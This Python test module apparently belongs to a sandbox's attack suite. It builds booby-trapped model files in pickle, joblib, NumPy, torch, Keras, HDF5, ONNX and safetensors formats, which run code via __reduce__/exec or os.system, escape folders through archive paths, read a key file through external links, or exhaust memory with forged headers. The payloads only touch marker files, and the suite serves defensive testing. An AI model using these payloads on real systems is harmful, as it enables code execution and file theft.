"""Models and data as files, each with a program inside that runs when somebody loads it carelessly.

The answers load them themselves, which may do harm in their own scratch only; and whoever else touches the zip must not load anything. The
payload is always the same: it writes into the arena's folder.
"""

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping

import numpy as np

from tests.attacks.attack import Win, attack, filled, packed
from tests.attacks.target import HONEST

Places = Mapping[str, str]
_PAYLOAD = "open('@@OUTSIDE@@/pwned', 'w').write('x'); import os; os.system('touch @@OUTSIDE@@/pwned2; touch @@HOME@@/pwned'); os._exit(0)"


class _Runs:
    """Unpickled, it runs a program."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self._code,)


def _pickled(places: Places) -> bytes:
    return pickle.dumps({"weights": [1.0], "x": _Runs(filled(_PAYLOAD, places))})


def _npy(places: Places) -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.array([_Runs(filled(_PAYLOAD, places))], dtype=object), allow_pickle=True)
    return stream.getvalue()


def _npy_header(places: Places) -> bytes:
    """A header that announces 16 EiB, and is evaluated."""
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (2305843009213693951,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def _npz(places: Places) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("../../../../../../..@@OUTSIDE@@/pwned.npy".replace("@@OUTSIDE@@", places["OUTSIDE"]), _npy(places))
        archive.writestr("w.npy", _npy(places))
    return stream.getvalue()


def _torch(places: Places) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("m/data.pkl", _pickled(places))
        archive.writestr("m/version", "3")
        archive.writestr("m/byteorder", "little")
    return stream.getvalue()


def _keras(places: Places) -> bytes:
    code = filled(_PAYLOAD, places)
    layer = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}, "arguments": {}},
    }  # fmt: skip
    forged = {
        "module": "os",
        "class_name": "system",
        "registered_name": "system",
        "config": "touch " + places["OUTSIDE"] + "/pwned",
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "s", "layers": [layer, forged]},
        "compile_config": {},
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0", "date_saved": "2026-01-01"}))
        archive.writestr("model.weights.h5", _hdf5_link(places))
        archive.writestr("../../x", "x")
    return stream.getvalue()


def _hdf5_link(places: Places) -> bytes:
    """A link to a data set of another file, and raw data that lie in another file: the key's."""
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["enlace"] = h5py.ExternalLink(places["KEY"], "/")
        file.create_dataset("w", shape=(20,), dtype="u1", external=[(places["KEY"], 0, 20)])
    return stream.getvalue()


def _onnx(places: Places) -> bytes:
    """A tensor whose data are said to lie in the key's file (TensorProto.external_data, written by hand)."""

    def text(field: int, value: bytes) -> bytes:
        return bytes([field << 3 | 2]) + _varint(len(value)) + value

    entry = text(13, text(1, b"location") + text(2, b"../../../../../../../.." + places["KEY"].encode()))
    tensor = b"\x08\x14" + b"\x10\x02" + text(8, b"w") + entry + b"\x70\x01"
    return b"\x08\x08" + text(7, text(5, tensor) + text(2, b"g"))


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def _safetensors(places: Places) -> bytes:
    header = json.dumps(
        {"w": {"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [-8, 2**62]}, "__metadata__": {"x": "y" * 1000}}
    ).encode()
    return struct.pack("<Q", 2**63 - 1) + header


def _model(name: str, goal: str, file: str, content: Callable[[Places], bytes], load: str, twin: str, twin_file: bytes, **more):
    code = f"def standardize(x):\n    {load}\n    return x\n"

    def raw(places: Places) -> bytes:
        return packed(filled(HONEST + "\n\n" + code, places), "zip", {file: content(places)})

    more = {"wins": (Win.ESCAPES, Win.LEAKS, Win.DOWN, Win.NEXT), **more}
    return attack(
        name, goal, code, twin, "1", family="models", container="zip", raw=raw, twin_files={file: twin_file},
        not_shown="the textbook grader opens no file", **more,
    )  # fmt: skip


def _saved(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.save(stream, array)
    return stream.getvalue()


def _saved_zip(**arrays: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.savez(stream, **arrays)
    return stream.getvalue()


def _tensors(values: np.ndarray) -> bytes:
    header = json.dumps({"w": {"dtype": "F64", "shape": list(values.shape), "data_offsets": [0, values.nbytes]}}).encode()
    return struct.pack("<Q", len(header)) + header + values.tobytes()


def _hdf5(values: np.ndarray) -> bytes:
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["w"] = values
    return stream.getvalue()


def _checkpoint() -> bytes:
    import torch

    stream = io.BytesIO()
    torch.save(torch.ones(1, dtype=torch.float64), stream)
    return stream.getvalue()


def _joblib(places: Places) -> bytes:
    import joblib

    stream = io.BytesIO()
    joblib.dump({"w": np.ones(3), "x": _Runs(filled(_PAYLOAD, places))}, stream)
    return stream.getvalue()


_ONE = np.array([1.0])
_RESULT = "    return (x - x.mean(axis=0)) / x.std(axis=0) * w[0]\n"
_HDF5_TWIN = "import h5py\n\n\ndef standardize(x):\n    with h5py.File('w.h5') as file:\n        w = file['w'][:]\n" + _RESULT
_TORCH_TWIN = "import torch\n\n\ndef standardize(x):\n    w = torch.load('modelo.pt', weights_only=True).numpy()\n" + _RESULT

ATTACKS = (
    _model(
        "pickle",
        "a pickle that runs a program",
        "modelo.pkl",
        _pickled,
        "import pickle; pickle.load(open('modelo.pkl', 'rb'))",
        "import pickle\n\n\ndef standardize(x):\n    with open('modelo.pkl', 'rb') as file:\n        w = pickle.load(file)\n"
        + _RESULT,
        pickle.dumps([1.0]),
    ),
    _model(
        "joblib",
        "a joblib file that runs a program",
        "modelo.joblib",
        _joblib,
        "import joblib; joblib.load('modelo.joblib')",
        "import pickle\n\n\ndef standardize(x):\n    with open('modelo.joblib', 'rb') as file:\n        w = pickle.load(file)\n"
        + _RESULT,
        pickle.dumps([1.0]),
    ),
    _model(
        "npy_of_objects",
        "an array of objects, which NumPy unpickles",
        "w.npy",
        _npy,
        "np.load('w.npy', allow_pickle=True)",
        "def standardize(x):\n    w = np.load('w.npy')\n" + _RESULT,
        _saved(_ONE),
    ),
    _model(
        "npy_header",
        "a header that announces more than there is",
        "w.npy",
        _npy_header,
        "np.load('w.npy')",
        "def standardize(x):\n    w = np.load('w.npy', mmap_mode='r')\n" + _RESULT,
        _saved(_ONE),
    ),
    _model(
        "npz_slip",
        "an archive of arrays whose names leave the folder",
        "w.npz",
        _npz,
        "np.load('w.npz', allow_pickle=True)['w']",
        "def standardize(x):\n    with np.load('w.npz') as file:\n        w = file['w']\n" + _RESULT,
        _saved_zip(w=_ONE),
    ),
    _model(
        "hdf5_links",
        "links and external data that point to the key",
        "w.h5",
        _hdf5_link,
        "import h5py; f = h5py.File('w.h5'); raise RuntimeError(bytes(f['w'][:]))",
        _HDF5_TWIN,
        b"",
        needs=("h5py",),
        twin_raw=lambda places: packed(HONEST + "\n\n" + _HDF5_TWIN, "zip", {"w.h5": _hdf5(_ONE)}),
    ),
    _model(
        "keras_lambda",
        "a model with a Lambda and with a layer that is os.system",
        "modelo.keras",
        _keras,
        "pass",
        "import zipfile\n\n\ndef standardize(x):\n    with zipfile.ZipFile('modelo.keras') as file:\n        w = [float(file.read('w.txt'))]\n"
        + _RESULT,
        packed(HONEST, "zip", {"w.txt": b"1"}),
        needs=("h5py",),
    ),
    _model(
        "keras_lambda_loaded",
        "the same, loaded without its safe mode by the answer",
        "modelo.keras",
        _keras,
        "import keras; keras.saving.load_model('modelo.keras', safe_mode=False)",
        "import zipfile\n\n\ndef standardize(x):\n    with zipfile.ZipFile('modelo.keras') as file:\n        w = [float(file.read('w.txt'))]\n"
        + _RESULT,
        packed(HONEST, "zip", {"w.txt": b"1"}),
        needs=("keras", "h5py"),
    ),
    _model(
        "torch_load",
        "a checkpoint that is a pickle with a program",
        "modelo.pt",
        _torch,
        "import torch; torch.load('modelo.pt', weights_only=False)",
        _TORCH_TWIN,
        b"",
        needs=("torch",),
        twin_raw=lambda places: packed(HONEST + "\n\n" + _TORCH_TWIN, "zip", {"modelo.pt": _checkpoint()}),
    ),
    _model(
        "onnx_external_data",
        "a tensor whose data are the key's file",
        "modelo.onnx",
        _onnx,
        "import onnx; m = onnx.load('modelo.onnx'); raise RuntimeError(str(m))",
        "def standardize(x):\n    w = [float(open('modelo.onnx').read())]\n" + _RESULT,
        b"1.0",
        needs=("onnx",),
    ),
    _model(
        "onnx_untouched",
        "the same file, in case that somebody else opens it",
        "modelo.onnx",
        _onnx,
        "pass",
        "def standardize(x):\n    w = [float(open('modelo.onnx').read())]\n" + _RESULT,
        b"1.0",
    ),
    _model(
        "safetensors_header",
        "a header of 2⁶³ bytes with offsets before the beginning",
        "w.safetensors",
        _safetensors,
        "import mmap, struct; n = struct.unpack('<Q', open('w.safetensors', 'rb').read(8))[0]; bytearray(n)",
        "import json\nimport struct\n\n\ndef standardize(x):\n    with open('w.safetensors', 'rb') as file:\n        head = json.loads(file.read(struct.unpack('<Q', file.read(8))[0]))\n        w = np.frombuffer(file.read(head['w']['data_offsets'][1]))\n"
        + _RESULT,
        _tensors(_ONE),
    ),
)
